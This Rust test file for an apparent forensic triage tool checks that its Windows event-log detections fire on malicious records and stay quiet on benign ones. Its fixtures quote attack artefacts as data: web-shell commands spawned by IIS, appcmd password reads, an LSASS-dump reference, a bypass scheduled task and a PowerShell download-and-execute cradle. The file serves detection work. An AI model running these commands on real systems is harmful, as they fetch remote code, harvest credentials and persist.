//! The event-log checks (MSExchange Management, Defender, Sysmon, PowerShell, Security) on the
//! real EVTX files of the shared corpus (`../shared/corpus/evtx`, see its README), each with
//! records that must fire and records of the same event ids that must not; then the same
//! files found by `deadbox scan` in a triage collection made at test time.
//!
//! No real Security 4688/4720/4732/4698 sample exists in the corpus: those are checked on an
//! EVTX file written here (`support/evtx_writer.rs`: one chunk, plain BinXML elements, no
//! templates) read by the real parser, and on records in the JSON form the `evtx` crate renders,
//! through the same [`EventLogChecker`] a scan uses.

mod common;
#[path = "support/evtx_writer.rs"]
mod evtx_writer;

use deadbox::exchange::{check_log, EventLog, EventLogChecker, EvtxRecord, LogKind, Trace};
use deadbox::finding::{FindingKind, Severity};
use serde_json::{json, Value};

fn corpus_evtx(name: &str) -> Option<Vec<u8>> {
    let dir = common::corpus()?.join("evtx");
    Some(std::fs::read(dir.join(name)).unwrap_or_else(|e| panic!("{name}: {e}")))
}

fn detail(t: &Trace) -> Value {
    serde_json::to_value(&t.detail).unwrap()
}

fn check(log: EventLog, name: &str) -> Option<deadbox::exchange::LogReport> {
    let bytes = corpus_evtx(name)?;
    let r = check_log(&LogKind::EventLog(log), &bytes);
    assert!(r.diagnostics.is_empty(), "{name}: {:?}", r.diagnostics);
    Some(r)
}

/// A successful `Set-Mailbox -ForwardingSmtpAddress` (event 1): mail forwarded outside.
#[test]
fn exchange_management_successful_cmdlet() {
    let Some(r) = check(
        EventLog::ExchangeManagement,
        "MSExchange_Management_wec.evtx",
    ) else {
        return;
    };
    assert_eq!(r.entries, 1);
    assert_eq!(r.traces.len(), 1, "{:#?}", r.traces);
    let t = &r.traces[0];
    assert_eq!(t.kind, FindingKind::ExchangeCmdlet);
    assert_eq!(t.severity, Severity::Medium);
    // The record's place in this file; the event itself says 3229 (a forwarded event).
    assert_eq!(t.record_id, Some(1));
    assert!(t
        .quote
        .starts_with("Set-Mailbox -Identity \"Administrateur\""));
    assert!(t
        .quote
        .contains("-ForwardingSmtpAddress \"smtp:test2@example.com\""));
    let d = detail(t);
    assert_eq!(d["cmdlet"], "Set-Mailbox");
    assert_eq!(d["succeeded"], true);
    assert_eq!(d["event_id"], 1);
    assert_eq!(d["event_record_id"], 3229);
    assert_eq!(d["provider"], "MSExchange CmdletLogs");
    assert_eq!(d["computer"], "WEC.ave.local");
    // The event's own time, not the record header's.
    assert_eq!(d["time"], "2021-11-19T16:52:33.8337335Z");
    assert_eq!(d["user"], "ave.local/Users/Administrateur");
    assert_eq!(d["process"], "5668 w3wp#MSExchangePowerShellAppPool");
    assert_eq!(r.oldest.as_deref(), Some("2021-11-19T16:52:33.8337335Z"));
}

/// Four failed cmdlets (event 6): `Install-TransportAgent` twice, `Enable-TransportAgent`
/// twice; each pair grouped into one trace with both record ids.
#[test]
fn exchange_management_failed_transport_agent() {
    let Some(r) = check(
        EventLog::ExchangeManagement,
        "msexchange_management_install_transportagent.evtx",
    ) else {
        return;
    };
    assert_eq!(r.entries, 4);
    assert_eq!(r.traces.len(), 2, "{:#?}", r.traces);
    let install = &r.traces[0];
    assert_eq!(install.kind, FindingKind::ExchangeCmdlet);
    assert_eq!(install.severity, Severity::Medium);
    assert!(install.title.starts_with("failed: Install-TransportAgent"));
    assert_eq!(
        install.quote,
        r#"Install-TransportAgent -Name "Evil" -AssemblyPath ".\NetshHelperBeacon.dll" -TransportAgentFactory "hack""#
    );
    let d = detail(install);
    assert_eq!(d["succeeded"], false);
    assert_eq!(d["event_id"], 6);
    assert_eq!(d["count"], 2);
    assert_eq!(d["record_ids"], json!([1, 2]));
    assert_eq!(
        d["error"],
        r#"System.ArgumentException: The Transport Agent assembly file ".\NetshHelperBeacon.dll" doesn't exist."#
    );
    assert_eq!(d["first_seen"], "2021-06-04T08:41:47.9821281Z");
    assert_eq!(d["time"], "2021-06-04T08:41:47.9821281Z");
    let enable = detail(&r.traces[1]);
    assert_eq!(enable["cmdlet"], "Enable-TransportAgent");
    assert_eq!(enable["record_ids"], json!([3, 4]));
    // Record 4's header time is 0 (1601): the event's time is used, coverage never says 1601.
    assert_eq!(enable["last_seen"], "2021-06-04T08:43:08.5465892Z");
    assert_eq!(r.oldest.as_deref(), Some("2021-06-04T08:41:47.9821281Z"));
    assert_eq!(r.newest.as_deref(), Some("2021-06-04T08:43:08.5465892Z"));
}

/// Defender 1116 ×6 and 1117 ×5 of an Atomic Red Team run: every detection fires with its
/// threat and path; the ASP backdoor and the JSP RAT are web shells (high, not in a web folder),
/// the rest medium. Jsprat's second 1116 (the same file as a container) groups with its first.
#[test]
fn defender_detections() {
    let Some(r) = check(EventLog::Defender, "defender_1116_1117_atomic.evtx") else {
        return;
    };
    assert_eq!(r.entries, 11);
    assert_eq!(r.traces.len(), 10, "{:#?}", r.traces);
    assert!(r
        .traces
        .iter()
        .all(|t| t.kind == FindingKind::DefenderDetection));
    let by = |threat: &str, event: u64| {
        r.traces
            .iter()
            .find(|t| {
                let d = detail(t);
                d["threat"] == threat && d["event_id"] == event
            })
            .unwrap_or_else(|| panic!("{threat} {event}"))
    };
    let ace = by("Backdoor:ASP/Ace.T", 1116);
    assert_eq!(ace.severity, Severity::High);
    assert_eq!(ace.record_id, Some(4));
    let d = detail(ace);
    assert_eq!(
        d["paths"],
        json!([r"C:\AtomicRedTeam\atomic-red-team-master\atomics\T1100\shells\cmd.aspx"])
    );
    assert_eq!(d["threat_severity"], "Severe");
    assert_eq!(d["category"], "Backdoor");
    assert_eq!(d["event_record_id"], 76);
    assert_eq!(d["time"], "2019-07-18T20:41:17.5082761Z");
    assert!(ace.title.contains("Backdoor:ASP/Ace.T"));
    assert!(ace.quote.contains(r"T1100\shells\cmd.aspx"));
    let jsprat = by("HackTool:JS/Jsprat", 1116);
    assert_eq!(jsprat.severity, Severity::High);
    assert_eq!(detail(jsprat)["count"], 2);
    assert_eq!(detail(jsprat)["record_ids"], json!([3, 7]));
    assert_eq!(
        by("Trojan:PowerShell/Powersploit.M", 1116).severity,
        Severity::Medium
    );
    assert_eq!(by("Backdoor:ASP/Ace.T", 1117).severity, Severity::High);
    assert!(
        detail(by("Trojan:Win32/Sehyioa.A!cl", 1117))["action"]
            .as_str()
            .is_some(),
        "1117 says what was done"
    );
}

/// Sysmon 1: the IIS worker starting `cmd.exe /c net user` fires (high); `net.exe` started by
/// that `cmd.exe`, `net1.exe` started by `net.exe`, and the process-access event 10 do not.
#[test]
fn sysmon_w3wp_cmd() {
    let Some(r) = check(EventLog::Sysmon, "sysmon_1_w3wp_cmd_webshell.evtx") else {
        return;
    };
    assert_eq!(r.entries, 4);
    assert_eq!(r.traces.len(), 1, "{:#?}", r.traces);
    let t = &r.traces[0];
    assert_eq!(t.kind, FindingKind::SuspiciousProcess);
    assert_eq!(t.severity, Severity::High);
    assert_eq!(t.record_id, Some(1));
    assert_eq!(
        t.quote,
        r#"C:\Windows\System32\inetsrv\w3wp.exe -> "c:\windows\system32\cmd.exe" /c net user"#
    );
    let d = detail(t);
    assert_eq!(d["image"], r"C:\Windows\System32\cmd.exe");
    assert_eq!(d["user"], r"IIS APPPOOL\DefaultAppPool");
    assert_eq!(d["event_id"], 1);
    assert_eq!(d["event_record_id"], 1044);
    assert_eq!(d["time"], "2019-05-24T01:33:53.1124866Z");
}

/// Sysmon 1: `w3wp.exe` starting an encoded PowerShell fires (high, the command decoded); of
/// the 39 `appcmd.exe` processes that PowerShell then starts, the 18 that read app-pool and
/// virtual-directory passwords fire (high, 12 distinct command lines), the 21 that list
/// names, paths and user names (same event id) do not.
#[test]
fn sysmon_w3wp_powershell_and_appcmd_children() {
    let Some(r) = check(EventLog::Sysmon, "sysmon_1_w3wp_powershell_appcmd.evtx") else {
        return;
    };
    assert_eq!(r.entries, 40);
    assert_eq!(r.traces.len(), 13, "{:#?}", r.traces);
    let appcmd: Vec<&Trace> = r.traces[1..].iter().collect();
    assert!(appcmd.iter().all(|t| t.severity == Severity::High
        && detail(t)["command_line"]
            .as_str()
            .unwrap()
            .contains("password")));
    let fired: u64 = appcmd
        .iter()
        .map(|t| detail(t)["count"].as_u64().unwrap())
        .sum();
    assert_eq!(fired, 18);
    let plain = appcmd
        .iter()
        .find(|t| {
            detail(t)["command_line"]
                == r#""C:\Windows\System32\inetsrv\appcmd.exe"  list apppool /text:processmodel.password"#
        })
        .unwrap();
    assert_eq!(detail(plain)["record_ids"], json!([7, 11, 15, 19]));
    let t = &r.traces[0];
    assert_eq!(t.severity, Severity::High);
    assert_eq!(t.record_id, Some(1));
    let d = detail(t);
    assert_eq!(d["parent_image"], r"C:\Windows\System32\inetsrv\w3wp.exe");
    assert!(d["command_line"]
        .as_str()
        .unwrap()
        .contains(" -enc JABQAHIA"));
    assert!(d["decoded_command"]
        .as_str()
        .unwrap()
        .starts_with("$ProgressPreference = \"SilentlyContinue\";"));
    assert_eq!(d["event_record_id"], 5875);
}

/// PowerShell 4104: the script block that dumps LSASS with `MiniDumpWriteDump` (critical); the
/// engine start/stop events beside it do not fire.
#[test]
fn powershell_lsass_dump_block() {
    let Some(r) = check(EventLog::PowerShell, "powershell_4104_minidump_lsass.evtx") else {
        return;
    };
    assert_eq!(r.entries, 4);
    assert_eq!(r.traces.len(), 1, "{:#?}", r.traces);
    let t = &r.traces[0];
    assert_eq!(t.kind, FindingKind::PowershellScriptBlock);
    assert_eq!(t.severity, Severity::Critical);
    assert_eq!(t.record_id, Some(4));
    assert!(t.quote.starts_with("function Memory($path)"));
    let d = detail(t);
    assert_eq!(d["reasons"], json!(["dumps LSASS memory"]));
    assert_eq!(d["part"], "1/1");
    assert_eq!(d["event_record_id"], 971);
    assert!(d["excerpt"].as_str().unwrap().contains("MiniDumpWriteDump"));
}

/// The wrong matcher on a real file fires nothing (a Sysmon log read as Defender, …), and the
/// Application check (CVE-2021-26857) stays quiet on the cmdlet log.
#[test]
fn checks_keep_to_their_log() {
    let Some(bytes) = corpus_evtx("sysmon_1_w3wp_cmd_webshell.evtx") else {
        return;
    };
    for log in [
        EventLog::Defender,
        EventLog::PowerShell,
        EventLog::ExchangeManagement,
    ] {
        assert!(check_log(&LogKind::EventLog(log), &bytes).traces.is_empty());
    }
    let Some(bytes) = corpus_evtx("msexchange_management_install_transportagent.evtx") else {
        return;
    };
    let r = check_log(&LogKind::ApplicationEvtx, &bytes);
    assert_eq!(r.entries, 4);
    assert!(r.traces.is_empty());
}

/// A Security record as the `evtx` crate renders one (named `EventData`, numbers as numbers).
fn security(record_id: u64, event_id: u64, data: Value) -> EvtxRecord {
    EvtxRecord {
        record_id,
        written: "2021-03-03T04:00:00Z".into(),
        data: json!({"Event": {
            "#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
            "System": {
                "Provider": {"#attributes": {"Name": "Microsoft-Windows-Security-Auditing",
                    "Guid": "{54849625-5478-4994-a5ba-3e3b0328c30d}"}},
                "EventID": event_id, "Version": 2, "Level": 0, "Task": 13312,
                "TimeCreated": {"#attributes": {"SystemTime": "2021-03-03T04:05:06.1234567Z"}},
                "EventRecordID": 100 + record_id, "Channel": "Security", "Computer": "EX01.contoso.local"},
            "EventData": data}}),
    }
}

/// Security 4688/4720/4732/4698 through the checker a scan uses (synthetic records: see the
/// module docs), with a benign record of each event id.
#[test]
fn security_records() {
    let mut c = EventLogChecker::new(EventLog::Security);
    // 4688: the IIS worker starting cmd.exe (fires) and explorer starting it (does not).
    c.record(Ok(security(1, 4688, json!({
        "SubjectUserSid": "S-1-5-18", "SubjectUserName": "EX01$", "SubjectDomainName": "CONTOSO",
        "NewProcessId": "0x1f34", "NewProcessName": "C:\\Windows\\System32\\cmd.exe",
        "TokenElevationType": "%%1936", "ProcessId": "0x2a1c",
        "CommandLine": "cmd /c \"cd /d \"C:\\inetpub\\wwwroot\\aspnet_client\\\"&whoami&echo [S]&cd&echo [E]\"",
        "ParentProcessName": "C:\\Windows\\System32\\inetsrv\\w3wp.exe"}))));
    c.record(Ok(security(
        2,
        4688,
        json!({
        "NewProcessName": "C:\\Windows\\System32\\cmd.exe", "CommandLine": "cmd.exe",
        "ParentProcessName": "C:\\Windows\\explorer.exe"}),
    )));
    // 4720: an account created (fires, medium); 4732: added to Administrators (high) and to
    // an ordinary group (medium).
    c.record(Ok(security(3, 4720, json!({
        "TargetUserName": "DefaultAccount1", "TargetDomainName": "EX01", "TargetSid": "S-1-5-21-1-2-3-1010",
        "SubjectUserName": "EX01$", "SubjectDomainName": "CONTOSO"}))));
    c.record(Ok(security(
        4,
        4732,
        json!({
        "MemberName": "-", "MemberSid": "S-1-5-21-1-2-3-1010", "TargetUserName": "Administrators",
        "TargetDomainName": "Builtin", "TargetSid": "S-1-5-32-544"}),
    )));
    // 4698: a task running PowerShell from ProgramData (high).
    c.record(Ok(security(5, 4698, json!({
        "TaskName": "\\Microsoft\\Windows\\Maintenance\\Sync",
        "TaskContent": "<Task><Actions Context=\"Author\"><Exec><Command>C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe</Command><Arguments>-ep bypass -f C:\\ProgramData\\s.ps1</Arguments></Exec></Actions></Task>",
        "SubjectUserName": "EX01$", "SubjectDomainName": "CONTOSO"}))));
    // A logon (4624) is no check's business.
    c.record(Ok(security(
        6,
        4624,
        json!({"TargetUserName": "administrator"}),
    )));
    let r = c.finish();
    assert_eq!(r.entries, 6);
    let got: Vec<(FindingKind, Severity, Option<u64>)> = r
        .traces
        .iter()
        .map(|t| (t.kind, t.severity, t.record_id))
        .collect();
    assert_eq!(
        got,
        [
            (FindingKind::SuspiciousProcess, Severity::High, Some(1)),
            (FindingKind::AccountChange, Severity::Medium, Some(3)),
            (FindingKind::AccountChange, Severity::High, Some(4)),
            (FindingKind::ScheduledTask, Severity::High, Some(5)),
        ]
    );
    let task = detail(&r.traces[3]);
    assert_eq!(task["arguments"], r"-ep bypass -f C:\ProgramData\s.ps1");
    assert_eq!(task["time"], "2021-03-03T04:05:06.1234567Z");
    assert_eq!(detail(&r.traces[2])["group_sid"], "S-1-5-32-544");
}

/// The Security events of [`security_records`], as an EVTX file written here.
fn security_evtx() -> Vec<u8> {
    use evtx_writer::Event;
    let ev = |record_id: u64, event_id: u32, data: &[(&'static str, &str)]| Event {
        provider: "Microsoft-Windows-Security-Auditing",
        event_id,
        time: "2021-03-03T04:05:06.1234567Z",
        record_id: 100 + record_id,
        computer: "EX01.contoso.local",
        data: data.iter().map(|(k, v)| (*k, v.to_string())).collect(),
    };
    evtx_writer::evtx(&[
        ev(
            1,
            4688,
            &[
                ("SubjectUserSid", "S-1-5-18"),
                ("SubjectUserName", "EX01$"),
                ("SubjectDomainName", "CONTOSO"),
                ("NewProcessId", "0x1f34"),
                ("NewProcessName", r"C:\Windows\System32\cmd.exe"),
                (
                    "CommandLine",
                    r#"cmd /c "cd /d "C:\inetpub\wwwroot\aspnet_client\"&whoami&echo [S]&cd&echo [E]""#,
                ),
                ("ParentProcessName", r"C:\Windows\System32\inetsrv\w3wp.exe"),
            ],
        ),
        ev(
            2,
            4688,
            &[
                ("NewProcessName", r"C:\Windows\System32\cmd.exe"),
                ("CommandLine", "cmd.exe"),
                ("ParentProcessName", r"C:\Windows\explorer.exe"),
            ],
        ),
        ev(
            3,
            4720,
            &[
                ("TargetUserName", "DefaultAccount1"),
                ("TargetDomainName", "EX01"),
                ("TargetSid", "S-1-5-21-1-2-3-1010"),
                ("SubjectUserName", "EX01$"),
                ("SubjectDomainName", "CONTOSO"),
            ],
        ),
        ev(
            4,
            4732,
            &[
                ("MemberName", "-"),
                ("MemberSid", "S-1-5-21-1-2-3-1010"),
                ("TargetUserName", "Administrators"),
                ("TargetDomainName", "Builtin"),
                ("TargetSid", "S-1-5-32-544"),
            ],
        ),
        ev(
            5,
            4698,
            &[
                ("TaskName", r"\Microsoft\Windows\Maintenance\Sync"),
                (
                    "TaskContent",
                    r#"<Task><Actions Context="Author"><Exec><Command>C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe</Command><Arguments>-ep bypass -f C:\ProgramData\s.ps1</Arguments></Exec></Actions></Task>"#,
                ),
                ("SubjectUserName", "EX01$"),
                ("SubjectDomainName", "CONTOSO"),
            ],
        ),
        ev(6, 4624, &[("TargetUserName", "administrator")]),
        // Server 2012 R2: no ParentProcessName; the creator by its id, from the event before.
        ev(7, 4688, &[
            ("NewProcessId", "0x2a1c"),
            ("NewProcessName", r"C:\Windows\System32\inetsrv\w3wp.exe"),
            ("ProcessId", "0x3b0"),
        ]),
        ev(8, 4688, &[
            ("NewProcessId", "0x1f40"),
            ("NewProcessName", r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"),
            ("ProcessId", "0x2a1c"),
            ("CommandLine", "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')\""),
        ]),
    ])
}

/// The same Security events written as an EVTX file and read by the real parser: the same
/// findings, at the records' places in the file.
#[test]
fn security_records_through_the_parser() {
    let bytes = security_evtx();
    let r = check_log(&LogKind::EventLog(EventLog::Security), &bytes);
    assert!(r.diagnostics.is_empty(), "{:?}", r.diagnostics);
    assert_eq!(r.entries, 8);
    let got: Vec<(FindingKind, Severity, Option<u64>)> = r
        .traces
        .iter()
        .map(|t| (t.kind, t.severity, t.record_id))
        .collect();
    assert_eq!(
        got,
        [
            (FindingKind::SuspiciousProcess, Severity::High, Some(1)),
            (FindingKind::AccountChange, Severity::Medium, Some(3)),
            (FindingKind::AccountChange, Severity::High, Some(4)),
            (FindingKind::ScheduledTask, Severity::High, Some(5)),
            (FindingKind::SuspiciousProcess, Severity::High, Some(8)),
        ]
    );
    let late = detail(&r.traces[4]);
    assert_eq!(
        late["parent_image"],
        r"C:\Windows\System32\inetsrv\w3wp.exe"
    );
    assert!(late["reasons"][1]
        .as_str()
        .unwrap()
        .starts_with("parent found by its process id"));
    let p = detail(&r.traces[0]);
    assert_eq!(p["image"], r"C:\Windows\System32\cmd.exe");
    assert_eq!(p["event_record_id"], 101);
    assert_eq!(p["time"], "2021-03-03T04:05:06.1234567Z");
    assert_eq!(p["computer"], "EX01.contoso.local");
    let task = detail(&r.traces[3]);
    assert_eq!(task["arguments"], r"-ep bypass -f C:\ProgramData\s.ps1");
}

/// The corpus files laid out as a triage collection (`C/Windows/System32/winevt/Logs/…`,
/// copied at test time): `deadbox scan` finds each log by its name, every trace points at the
/// collected file with its volume path and record id, and each file has its own coverage.
#[cfg(feature = "cli")]
#[test]
fn scan_finds_event_logs_in_a_collection() {
    let Some(corpus) = common::corpus() else {
        return;
    };
    let dir = common::scratch().join("evtx-collection");
    let logs = dir
        .join("C")
        .join("Windows")
        .join("System32")
        .join("winevt")
        .join("Logs");
    std::fs::create_dir_all(&logs).unwrap();
    let copies = [
        (
            "MSExchange_Management_wec.evtx",
            "MSExchange Management.evtx",
        ),
        (
            "defender_1116_1117_atomic.evtx",
            "Microsoft-Windows-Windows Defender%4Operational.evtx",
        ),
        (
            "sysmon_1_w3wp_cmd_webshell.evtx",
            "Microsoft-Windows-Sysmon%4Operational.evtx",
        ),
        (
            "powershell_4104_minidump_lsass.evtx",
            "Microsoft-Windows-PowerShell%4Operational.evtx",
        ),
    ];
    for (from, to) in copies {
        std::fs::copy(corpus.join("evtx").join(from), logs.join(to)).unwrap();
    }
    std::fs::write(logs.join("Security.evtx"), security_evtx()).unwrap();
    let (code, out, err) = common::run(&["scan", dir.to_str().unwrap(), "--format", "jsonl", "-q"]);
    assert_eq!(code, 1, "{err}");
    let findings = common::jsonl(&out);
    let count = |kind: &str| findings.iter().filter(|f| f["kind"] == kind).count();
    assert_eq!(count("exchange_cmdlet"), 1);
    assert_eq!(count("defender_detection"), 10);
    assert_eq!(
        count("suspicious_process"),
        3,
        "Sysmon's one and Security's two"
    );
    assert_eq!(count("account_change"), 2);
    assert_eq!(count("scheduled_task"), 1);
    assert_eq!(count("powershell_script_block"), 1);
    assert_eq!(count("diagnostic"), 0, "{findings:#?}");
    let ps = findings
        .iter()
        .find(|f| f["kind"] == "powershell_script_block")
        .unwrap();
    assert_eq!(ps["severity"], "critical");
    assert_eq!(
        ps["location"]["path"],
        "/Windows/System32/winevt/Logs/Microsoft-Windows-PowerShell%4Operational.evtx"
    );
    assert_eq!(ps["location"]["record_id"], 4);
    assert!(ps["location"]["evidence"]
        .as_str()
        .unwrap()
        .ends_with("Microsoft-Windows-PowerShell%4Operational.evtx"));
    assert_eq!(ps["detail"]["log"], "powershell_evtx");
    assert_eq!(ps["detail"]["time"], "2020-06-30T14:24:08.2546050Z");
    assert!(ps["quote"]
        .as_str()
        .unwrap()
        .starts_with("function Memory($path)"));
    let coverage: Vec<&Value> = findings
        .iter()
        .filter(|f| f["kind"] == "log_coverage")
        .collect();
    assert_eq!(coverage.len(), 5, "one coverage per event log file");
    let admins = findings
        .iter()
        .find(|f| f["kind"] == "account_change" && f["severity"] == "high")
        .unwrap();
    assert_eq!(
        admins["location"]["path"],
        "/Windows/System32/winevt/Logs/Security.evtx"
    );
    assert_eq!(admins["location"]["record_id"], 4);
    assert_eq!(admins["detail"]["group_name"], r"Builtin\Administrators");
    let sysmon = coverage
        .iter()
        .find(|f| f["detail"]["log"] == "sysmon_evtx")
        .unwrap();
    assert_eq!(sysmon["detail"]["entries"], 4);
    assert_eq!(sysmon["detail"]["oldest"], "2019-05-24T01:33:53.1124866Z");
}
